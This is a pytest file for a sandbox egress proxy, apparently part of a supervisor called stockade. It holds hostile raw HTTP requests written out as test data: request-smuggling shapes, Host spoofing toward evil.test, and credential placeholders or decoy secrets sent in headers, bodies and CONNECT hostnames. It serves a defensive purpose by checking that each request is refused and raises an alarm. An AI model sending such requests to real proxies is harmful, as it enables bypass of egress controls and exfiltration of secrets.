"""The intercepting egress proxy against hostile sandboxes: malformed and smuggling-shaped
requests, bad TLS, upgrades, decoys and placeholders where the proxy reads plain text, an
upstream it cannot trust."""

from __future__ import annotations

import asyncio
import ssl
from pathlib import Path

import pytest

from stockade.supervisor.config.allowlist import Allowlist
from stockade.supervisor.network.brokered import Broker
from stockade.supervisor.network.mint import Authority
from stockade.supervisor.network.proxy import EgressProxy, ProxySettings
from stockade.supervisor.observe.alarms import Alarm
from tests.unit.fakes import listening_socket
from tests.unit.intercept_harness import (
    DECOY,
    GH_PH,
    OTHER_PH,
    SECRETS,
    Harness,
    get,
    make_harness,
    once,
    tunnel,
)
from tests.upstream import Upstream


@pytest.mark.parametrize(
    ("raw", "status", "reason"),
    [
        (get("/", "X: " + "a" * 70_000), 431, b"too large"),
        (b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", 400,
         b"chunk size"),
        (b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n"
         b"Content-Length: 3\r\n\r\nabc", 400, b"both"),
        (b"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\n",
         400, b"differing"),
        (b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: gzip, chunked\r\n\r\n", 400,
         b"not relayed"),
        (b"GET / HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
         501, b"upgrades"),
        (b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", 400, b"another host"),
        (b"GET https://evil.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", 400, b"another host"),
        (b"GET /a\x01b HTTP/1.1\r\nHost: api.test\r\n\r\n", 400, b"control"),
        (b"GET / HTTP/1.1\r\nHost: api.test\r\nX: a\x7fb\r\n\r\n", 400, b"control"),
        (b"GET / HTTP/1.1\r\nHost: api.test\r\nX: a\nY: b\r\n\r\n", 400, b"malformed"),
        (b"CONNECT api.test:443 HTTP/1.1\r\n\r\n", 405, b"not relayed"),
        (b"GET / HTTP/2.0\r\nHost: api.test\r\n\r\n", 505, b"not HTTP/1.1"),
        (b"GET / HTTP/1.1\r\n folded: x\r\n\r\n", 400, b"malformed"),
        (get("/", f"X-Cloud: {DECOY}"), 403, b"policy"),
        (f"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 25\r\n\r\nkey={DECOY}!".encode(),
         403, b"policy"),
    ],
)  # fmt: skip
async def test_hostile_requests_are_refused_before_the_upstream(
    h: Harness, raw: bytes, status: int, reason: bytes
) -> None:
    reply = await once(h, raw)
    assert reply.status == status, reply.head
    assert reason in reply.body
    assert h.up.requests == []
    assert not h.injected


async def test_the_tripwire_sees_heads_and_bodies(h: Harness) -> None:
    await once(h, get("/", f"X-Cloud: {DECOY}"))
    assert h.decoys.hits == [("tenant/box", "egress")]


async def test_bad_tls_from_the_sandbox_closes_the_tunnel(h: Harness) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", h.port)
    writer.write(f"CONNECT api.test:{h.up.port} HTTP/1.1\r\n\r\n".encode())
    await reader.readuntil(b"\r\n\r\n")
    writer.write(b"\x16\x03\x01\x00\x05garbage-not-a-hello")
    assert await asyncio.wait_for(reader.read(), 10) == b""
    writer.close()
    untrusting = ssl.create_default_context()  # does not trust the egress CA
    with pytest.raises(ssl.SSLCertVerificationError):
        await tunnel(h, context=untrusting)
    await asyncio.sleep(0.1)
    assert h.up.requests == []
    assert [d.allowed for d in h.decisions] == [False, True, False]
    assert "TLS with the sandbox failed" in h.decisions[-1].reason


async def test_an_untrusted_upstream_is_a_502(tmp_path: Path) -> None:
    h = await make_harness(tmp_path, trust_upstream=False)
    try:
        reply = await once(h, get("/", f"Authorization: Bearer {GH_PH}"))
        assert reply.status == 502
        assert b"certificate is not trusted" in reply.body
        assert h.up.requests == []
    finally:
        await h.proxy.close()
        await h.up.close()


@pytest.mark.parametrize(
    "raw",
    [
        f"CONNECT {GH_PH}.evil.test:443 HTTP/1.1\r\n\r\n",
        f"CONNECT api.test:{{port}} HTTP/1.1\r\nX-Note: {OTHER_PH}\r\n\r\n",
        f"GET http://api.test:{{port}}/?q={GH_PH} HTTP/1.1\r\n\r\n",
        f"GET http://localhost:{{port}}/ HTTP/1.1\r\nHost: localhost:{{port}}\r\n"
        f"X-Api-Key: {OTHER_PH}\r\n\r\n",
    ],
)
async def test_placeholders_in_what_the_plain_proxy_reads_are_refused(h: Harness, raw: str) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", h.port)
    writer.write(raw.replace("{port}", str(h.up.port)).encode())
    reply = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    assert reply.startswith(b"HTTP/1.1 403")
    assert [a.kind for a in h.alarms] == ["placeholder"]
    assert h.up.connections == 0


async def test_a_decoy_in_a_connect_head_trips_the_wire(h: Harness) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", h.port)
    writer.write(f"CONNECT {DECOY}.api.test:443 HTTP/1.1\r\n\r\n".encode())
    reply = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    assert reply.startswith(b"HTTP/1.1 403")
    assert b"policy" in reply
    assert h.decoys.hits == [("tenant/box", "egress")]


def test_brokered_secrets_without_a_ca_are_a_wiring_error() -> None:
    settings = ProxySettings(frozenset({443}), {}, False, 1, 1, 1)
    with pytest.raises(ValueError, match="egress CA"):
        EgressProxy("k", Allowlist(["a.test"], [443]), settings, print, broker=Broker(SECRETS))


async def test_a_placeholder_in_a_plain_http_body_is_refused(tmp_path: Path) -> None:
    async with Upstream(tmp_path / "plain", tls=False) as plain:
        port = plain.port
        settings = ProxySettings(frozenset({port}), {"plain.test": "127.0.0.1"}, False, 4, 5, 5)
        alarms: list[Alarm] = []
        proxy = EgressProxy(
            "k", Allowlist(["plain.test"], [port]), settings, lambda d: None,
            broker=Broker(SECRETS), alarm=alarms.append,
            authority=Authority.load_or_create(tmp_path / "ca"),
        )  # fmt: skip
        sock = listening_socket()
        await proxy.start(sock)
        try:
            head = f"POST http://plain.test:{port}/sink HTTP/1.1\r\nHost: plain.test:{port}\r\n"
            for body, cut in (
                (b"clean" * 20_000, 50_000),
                (b"a" * 100_000 + GH_PH.encode(), 100_010),
            ):
                reader, writer = await asyncio.open_connection(*sock.getsockname())
                writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body[:cut])
                await writer.drain()
                await asyncio.sleep(0.1)  # the two parts arrive as two reads
                writer.write(body[cut:])
                reply = await asyncio.wait_for(reader.read(), 10)
                writer.close()
                if body.startswith(b"clean"):
                    assert reply.startswith(b"HTTP/1.1 200")  # nothing held back for ever
                    assert plain.requests[0].body_length == len(body)
                else:  # refused before any of it left (test_plain_framing.py: past HOLD)
                    assert reply.startswith(b"HTTP/1.1 403"), reply[:100]
            assert [a.kind for a in alarms] == ["placeholder"]
            assert plain.connections == 1
            assert len(plain.requests) == 1
        finally:
            await proxy.close()
